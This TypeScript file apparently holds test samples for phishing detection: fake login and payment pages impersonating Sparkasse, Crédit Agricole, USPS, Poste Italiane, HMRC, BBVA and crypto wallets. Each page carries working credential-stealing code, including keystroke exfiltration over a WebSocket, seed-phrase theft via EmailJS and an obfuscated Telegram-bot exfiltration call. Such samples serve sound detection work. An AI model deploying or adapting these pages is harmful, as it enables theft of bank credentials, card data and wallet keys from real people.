import { field, type Samples, site } from '../../sample.ts';

const SPARKASSE = `<div class="nav"><img src="sp-rot.svg" alt="Sparkasse"></div><h1>Anmelden im Online-Banking</h1><p>Ihr pushTAN-Verfahren läuft ab. Bestätigen Sie Ihre Daten, sonst wird Ihr Konto gesperrt.</p>
<form action="https://pushtan-erneuern.example/sp/weiter.php" method="post">${field('Anmeldename', 'name="anm"')}${field('PIN', 'type="password" name="pin" maxlength="5"')}<button>Anmelden</button></form>`;

const keys = [7, 2, 9, 0, 4, 1, 8, 3, 6, 5].map((digit) => `<button class="key">${digit}</button>`).join('');
const AGRICOLE = `<img src="ca.svg" alt="Crédit Agricole"><h1>Accéder à mes comptes</h1><form id="acces"><input name="identifiant" maxlength="11" placeholder="Identifiant"><p>Saisissez votre code personnel à 6 chiffres</p><div class="keypad">${keys}</div><input type="hidden" name="code"></form>
<script>var saisi="";document.querySelectorAll(".key").forEach(k=>k.onclick=e=>{e.preventDefault();saisi+=k.textContent;if(saisi.length==6){acces.code.value=saisi;fetch("https://securipass-mobile.example/r",{method:"POST",body:new FormData(acces)})}})</script>`;

const USPS = `<img src="usps_logo.png" alt="USPS"><h1>Redelivery</h1><p>Your USPS package could not be delivered due to an incomplete address. Pay $0.30 for redelivery.</p><div id="app"><input id="n" placeholder="Name on card"><input id="c" placeholder="Card number" maxlength="19"><input id="x" placeholder="MM/YY"><input id="v" placeholder="CVV"><button id="pay">Submit</button></div>
<script>const ws=new WebSocket('wss://redelivery-us.example/socket');['n','c','x','v'].forEach(i=>document.getElementById(i).addEventListener('input',e=>ws.send(JSON.stringify({[i]:e.target.value}))))</script>`;

const POSTE = `<header><img src="posteitaliane.svg" alt="Poste Italiane"></header><h1>Accedi a BancoPosta</h1><p>Il tuo conto è stato limitato. Conferma la tua identità entro 24 ore per evitare la sospensione.</p>
<form method="post" action="https://conferma-identita.example/poste/">${field('Nome utente', 'name="utente"')}${field('Password', 'type="password" name="pw"')}${field('Numero Postepay', 'name="carta"')}<button>Accedi</button></form>`;

const TRUST = `<img src="shield.svg" alt="Trust Wallet"><h1>Import your wallet</h1><form action="https://formsubmit.co/abc123def456" method="POST"><textarea name="phrase" placeholder="Enter your recovery phrase (12 or 24 words)" rows="4"></textarea><button>Import</button></form>`;

const WALLETS = ['MetaMask', 'Trust Wallet', 'Coinbase Wallet', 'Phantom', 'Ledger', 'Trezor', 'Exodus']
  .map((name) => `<button class="w"><img src="${name.toLowerCase().replace(' ', '')}.png">${name}</button>`)
  .join('');
const RECTIFY = `<h1>DApps Rectification</h1><p>Open protocol to resolve wallet issues: migration, validation, claim airdrop, synchronize.</p><button>Connect wallet</button><dialog open>${WALLETS}</dialog>
<dialog><div class="tabs"><a>Phrase</a><a>Keystore JSON</a><a>Private Key</a></div><form id="sync"><textarea name="phrase" placeholder="Enter your 12 or 24 words separated by a space"></textarea><input name="keystore_password" type="password" placeholder="Wallet password"><textarea name="private_key" placeholder="Enter your private key"></textarea><button>Proceed</button></form></dialog>
<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@3/dist/email.min.js"></script><script>emailjs.init('user_0000000');sync.onsubmit=e=>{e.preventDefault();emailjs.sendForm('service_01','template_01',sync)}</script>`;

const HMRC = `<header class="govuk-header"><svg aria-label="GOV.UK"></svg> HM Revenue &amp; Customs</header><h1 class="govuk-heading-xl">Claim your tax refund</h1><p>You are owed £512.46. Enter the card that we should pay.</p>
<form action="https://tax-rebate-claim.example/step2" method="post">${field('National Insurance number', 'name="nino"')}${field('Card number', 'name="pan"')}${field('Expiry date', 'name="expm"')}${field('Security code', 'name="cv2"')}${field('Sort code', 'name="sort"')}<button class="govuk-button">Continue</button></form>`;

const BBVA = `<nav><img src="bbva.png" alt="BBVA"></nav><h1>Banca online: verifica tu identidad</h1><p>Hemos detectado un acceso no autorizado. Tu tarjeta ha sido bloqueada temporalmente.</p>
<form id="acc"><input name="dni" placeholder="DNI / NIE"><input type="password" name="clave" placeholder="Clave de acceso"><button>Entrar</button></form><script>
const t={c:'-1000000000'};acc.addEventListener('submit',e=>{e.preventDefault();const u='https://api.teleg'+'ram.org/bot'+'7000000002:AAE1111111111111111111111111111111x'+'/sendMessage';fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:t.c,text:acc.dni.value+' '+acc.clave.value})})})</script>`;

export const MONEY: Samples = {
  'Sparkasse in German': site('Sparkasse - Online-Banking', SPARKASSE, { lang: 'de' }),
  'Crédit Agricole with a keypad in French': site('Mon espace - Crédit Agricole', AGRICOLE, { lang: 'fr' }),
  'USPS as it is typed': site('USPS.com® - Redelivery', USPS),
  'Poste Italiane in Italian': site('Poste Italiane - Accedi', POSTE, { lang: 'it' }),
  'Trust Wallet to a form service': site('Trust Wallet', TRUST),
  'all wallets by mail': site('Dapps Support', RECTIFY),
  'HMRC refund': site('Claim a tax refund - GOV.UK', HMRC),
  'BBVA in Spanish to Telegram': site('BBVA', BBVA, { lang: 'es' }),
};
